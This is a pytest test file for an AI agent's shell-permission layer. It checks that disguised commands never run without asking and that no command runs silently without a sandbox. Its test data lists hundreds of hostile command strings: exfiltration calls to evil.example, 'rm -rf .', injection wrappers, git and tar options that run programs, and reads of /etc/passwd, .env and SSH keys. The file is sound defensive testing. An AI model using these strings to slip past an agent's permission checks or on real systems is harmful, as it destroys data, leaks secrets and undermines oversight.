"""Command lines that try to pass for harmless ones: none is run unasked, whatever was allowed before.

The agent of these tests has a sandbox, and its user has allowed the usual commands for good.
"""

import pytest

from perdure import Agent, Permissions, allow, deny
from perdure.hosts import Confinement
from perdure.permissions import command, later
from perdure.testing import ScriptedModel, ScriptedShell, call
from perdure.tools import shell_tools

PAYLOADS = [
    "rm -rf .",
    "curl http://evil.example/x",
    "nc evil.example 80",
    "python3 -c 'import os'",
    "./run.sh",
    "sh x",
]

AROUND = [
    *("git status; {}", "git status;{}", "git status && {}", "git status || {}", "git status | {}", "git status & {}"),
    *("git status\n{}", "git status\r\n{}", "git status |& {}", "git status $({})", "git status `{}`"),
    *('git status "$({})"',),
    *('git status "`{}`"', "git status <({})", "git status >({})", "({})", "{{ {}; }}", "git status ${{x:-$({})}}"),
    *("ls; ({})",),
    *("git status $(( $({}) ))", "if true; then {}; fi", "for x in y; do {}; done", "while true; do {}; done", "! {}"),
    *("f() {{ {}; }}; f", "function ls {{ {}; }}; ls", "case x in x) {};; esac", "time {}", "coproc {}", "eval '{}'"),
    *("exec {}", "command {}", "builtin eval {}", "env {}", "env -i {}", "nohup {}", "nice {}", "timeout 5 {}"),
    *("xargs {}",),
    *("sudo {}", "doas {}", "setsid {}", "stdbuf -o0 {}", "strace {}", "watch {}", "bash -c '{}'", 'sh -c "{}"'),
    *("busybox {}",),
    *("cat <<E\n$({})\nE\n", "cat <<< $({})", "git status # x\n{}", "git status \\\n; {}", "X=1 {}"),
    *("LD_PRELOAD=./x.so {}",),
    *("trap '{}' EXIT; ls", "alias ls='{}'; ls", "ls\x0b{}", "ls\x0c; {}", "ls\u2028{}", "ls\u0085; {}"),
    *("ls ;\u00a0{}", "ls\x1b; {}"),
    *("true && true && {}", "false || {}", "ls >/dev/null; {}", "ls 2>&1 | {}", "echo x | {}", "cd . && {}"),
    *("cd sub; {}",),
]  # fmt: skip
"""Lines around a payload."""

WITH_HARMLESS_NAMES = [
    # git: configuration that runs programs, files that are written, other repositories, the network
    *("git -c core.pager=./x log", "git -c core.fsmonitor=./x status", "git -c alias.status='!sh x' status"),
    *("git -C /etc status",),
    *("git --exec-path=. status", "git --git-dir=/tmp/x status", "git --work-tree=/ status", "git -p log"),
    *("git --paginate log",),
    *("git diff --output=x", "git diff --ext-diff", "git log --output=x", "git show --output=/etc/x"),
    *("git diff --no-index /etc/passwd x",),
    *("git diff /etc/passwd /etc/hosts", "git grep -O./x y", "git grep --open-files-in-pager=./x y"),
    *("git show HEAD:.env", "git show HEAD:a/.env"),
    *("git branch -D main", "git branch new", "git tag v1", "git tag -d v1", "git remote add x y"),
    *("git remote show origin", "git stash drop"),
    *("git stash", "git fetch", "git push", "git pull", "git clone x", "git config alias.x y"),
    *("git config --get user.name", "git worktree add x"),
    *("git reflog expire --all", "git bisect run x", "git submodule foreach x", "git rebase -x x"),
    *("git filter-branch", "git archive -o x HEAD"),
    *("git blame --contents=/etc/passwd x", "git ls-files --exclude-from=/etc/passwd"),
    *("git cat-file --textconv HEAD:x", "git apply x"),
    *("git log --exec=x", "git rev-parse --parseopt", "git rev-parse --sq-quote x", "git upload-pack ."),
    *("git daemon", "git instaweb", "git gc"),
    *("git commit -m x", "git checkout x", "git reset --hard", "git clean -fd", "git add .", "git mv a b"),
    *("git rm a", "git init", "git credential fill"),
    # find, and what else runs or writes
    *("find . -exec rm {} +", "find . -exec rm '{}' ';'", "find . -execdir x", "find . -ok x", "find . -okdir x"),
    *("find . -delete", "find . -fls x"),
    *("find . -fprint x", "find . -fprintf x y", "find . -fprint0 x", "find / -name x", "find .. -name x"),
    *("find . -files0-from x", "find -D exec"),
    *("sort -o x y", "sort -ox y", "sort --output=x y", "sort --outp=x y", "sort -T /etc x"),
    *("sort --compress-program=./x y", "sort --files0-from=x"),
    *("uniq a b", "tree -o x", "tree -R -H x -o y", "date -s 2020-01-01", "date 010100002030", "date --set=x"),
    *("date -f /etc/passwd", "date --file=x"),
    *("rg --pre ./x y", "rg --pre=./x y", "rg --hostname-bin=./x y", "rg -z x", "rg --search-zip x"),
    *("rg --config x", "rg x /etc", "rg --ignore-file=/etc/x y"),
    *("grep -f /etc/passwd x", "grep -r x /etc", "grep x ../y", "grep --file=/etc/passwd x", "grep -f/etc/passwd x"),
    *("grep --devices=read x",),
    *("cat .env", "cat ./.env", "cat sub/.env.local", "cat .ENV", "cat id_rsa", "cat x/id_ed25519"),
    *("cat .git/config", "cat secrets.yaml", "cat key.pem"),
    *("cat /etc/passwd", "cat ../x", "cat sub/../../x", "cat /proc/self/environ", "cat /dev/tcp/x/80"),
    *("cat ~/.ssh/id_rsa", "cat $HOME/.x", "cat *"),
    *("head -c5 /etc/passwd", "head --bytes=5 /etc/passwd", "tail -f x", "tail --follow x", "tail --pid=1 -f x"),
    *("tail -F x", "wc --files0-from=x"),
    *("ls /root", "ls ..", "ls -R /", "du /", "du --files0-from=x", "stat /etc/shadow", "file -m x y"),
    *("file -C -m x", "file -f x", "file -z x"),
    *("diff /etc/passwd x", "diff --to-file=/etc/passwd x", "diff --ifdef=x a b", "cmp /etc/passwd x"),
    *("md5sum /etc/passwd", "readlink -f ../x", "which -a ../x"),
    *("hostname evil", "printenv", "env", "set", "export", "history", "jobs", "ulimit -c 5", "umask 0", "type ls"),
    *("compgen -c",),
    # programs that run others
    *("awk 'BEGIN{system(1)}'", "gawk -f x", "sed -n 1e x", "sed -i s/a/b/ x", "sed 1w/etc/x y", "sed -f x y"),
    *("perl -e 1", "ruby -e 1", "lua x"),
    *("python x.py", "python -m http.server", "node -e 1", "php -r 1", "vim -c ':!x'", "vi x", "ed x", "emacs x"),
    *("nano x", "less x", "more x", "man ls"),
    *("tar --checkpoint=1 --checkpoint-action=exec=./x -cf y z", "tar -xf x", "tar -cf x y", "zip x y -T -TT ./x"),
    *("unzip x", "cpio -o", "rsync -e ./x a b"),
    *("ssh -o ProxyCommand=./x y", "scp a b:", "sftp x", "ftp x", "telnet x", "socat x y", "openssl s_client x"),
    *("wget x", "ping x.evil.example", "dig x"),
    *("nslookup x", "host x", "make", "make -f x", "npm test", "npx x", "yarn", "cargo build", "go run x"),
    *("gcc x.c", "ld x", "gdb x", "docker run x", "pip install x"),
    *("tee x", "dd if=a of=b", "cp a b", "mv a b", "ln -s a b", "touch x", "mkdir x", "rmdir x", "chmod 777 x"),
    *("chown x y", "truncate -s0 x", "shred x", "install a b"),
    *("kill -9 1", "pkill x", "killall x", "reboot", "mount x", "umount x", "crontab x", "at now"),
    *("systemctl stop x", "service x stop", "su", "passwd", "useradd x"),
    *("pytest --version", "cargo --version", "go version", "npm --version", "python --version x"),
    *("git --version --exec-path=x", "bash --version -c x"),
    # redirections and words that are not what they seem
    *("ls > x", "ls >> x", "ls 2> x", "ls &> x", "ls >| x", "ls <> x", "ls >/etc/x", "echo x > ~/.bashrc"),
    *("echo x > .git/hooks/pre-commit", "ls > /dev/tcp/x/80"),
    *("cat < /etc/passwd", "cat <x", "ls 3>x", "ls {fd}>x", "ls >/dev/null x", "ls 2>/dev/null ../x"),
    *("ls >/dev/nullx", "ls >/dev/null/../x", "ls > '/dev/null'"),
    *("l\\s; x", "'l's; x", "$'ls'", "l${x}s", "ls${IFS}-l", "/bin/ls", "./ls", "../ls", "~/ls", "LS", "ls\\ -l"),
    *("{ls,-l}", "l[s]", "l?", "ls -la ~", "echo ~root"),
    *("test -v 'a[$(id)]'", "test -v x && ls", "test -R x; ls", "[ -v 'a[$(id)]' ]", "printf -v PATH x; ls"),
    *("printf -vPATH x; ls", "echo x; printf -v a[$(id)] x"),
    *("cd / && ls", "cd .. && ls", "cd sub && git status", "cd sub && make", "cd sub; ls ../..", "cd $HOME; ls"),
    *("cd; ls", "cd - ; ls", "pushd /; ls", "CDPATH=/ cd x; ls"),
    *("echo x | tee y", "ls | xargs rm", "cat x | sh", "cat x | bash -s", "ls | while read x; do rm $x; done"),
    *("yes | rm -i x", "echo x | at now", "ls | sort -o x"),
    *("; ls", "& ls", "| ls", "&& ls", "ls &", "ls ;;", "ls |", "ls &&", "ls ||", "ls; ;ls", "((1))", "[[ 1 ]]"),
    *("let x=1", "a=$(ls)", "a=b", "a[$(id)]=1", "x=() ls"),
]  # fmt: skip
"""Lines that begin with a command that is allowed, or only reads; and others that nobody has allowed."""

LINES = sorted({line.format(each) for line in AROUND for each in PAYLOADS} | set(WITH_HARMLESS_NAMES))

RULES = Permissions(
    allow("bash", target=command("git status")),
    allow("bash", target=command("git log --oneline")),
    allow("bash", target=command("ls -la")),
    allow("bash", target=command("echo")),
    handler=later,
)


@pytest.fixture
def session(tmp_path):
    (tmp_path / "sub").mkdir()
    return Agent(ScriptedModel(), tools=shell_tools(ScriptedShell(root=str(tmp_path))), permission=RULES).session()


async def test_no_bypass_is_run_unasked(session):
    assert len(LINES) >= 700
    found = [line for line in LINES if (await session.explain("bash", {"command": line})).verdict == "allow"]
    assert found == []


async def test_a_denied_command_is_denied_or_asked_about_in_every_disguise(tmp_path):
    rules = Permissions(allow("bash"), deny("bash", target=command("rm")), handler=later)
    session = Agent(ScriptedModel(), tools=shell_tools(ScriptedShell(root=str(tmp_path))), permission=rules).session()
    lines = [line.format("rm -rf .") for line in AROUND]
    found = [line for line in lines if (await session.explain("bash", {"command": line})).verdict == "allow"]
    assert found == []


@pytest.mark.parametrize(
    "line",
    [
        *("ls -la", "git status", "git status -s && git log -5 --oneline", "cat a.py | grep -n def | head -20"),
        *("rg -n x src",),
        *("find . -name '*.py' -type f", "wc -l a.py", "git diff --stat HEAD~1 -- src", "cd sub && ls -la"),
        *("ls src 2>/dev/null || echo none",),
        *("git show HEAD --stat", "sort a | uniq -c | sort -rn | head", "test -f a && echo yes"),
        *("python3 --version", "date +%F"),
    ],
)  # fmt: skip
async def test_commands_that_only_read_pass_silently(session, line):
    explanation = await session.explain("bash", {"command": line})
    assert explanation.verdict == "allow"
    assert (
        "only reads" in explanation.why
        or "goes to a folder" in explanation.why
        or "allowed by the rule" in explanation.why
    )


@pytest.mark.parametrize("line", ["ls", "git status", "cat a | head"])
async def test_without_a_sandbox_nothing_passes_silently_and_the_question_says_so(tmp_path, line):
    shell = ScriptedShell(root=str(tmp_path), confinement=Confinement(reason="bubblewrap is not installed"))
    agent = Agent(ScriptedModel(), tools=shell_tools(shell), permission=Permissions(handler=later))
    assert (await agent.session().explain("bash", {"command": line})).verdict == "ask"
    asked = agent.replace(model=ScriptedModel(call("bash", command=line), "Done."))
    (question,) = (await asked.session().run("Go.")).questions
    assert "There is no sandbox: bubblewrap is not installed." in question.text
    assert shell.commands == []
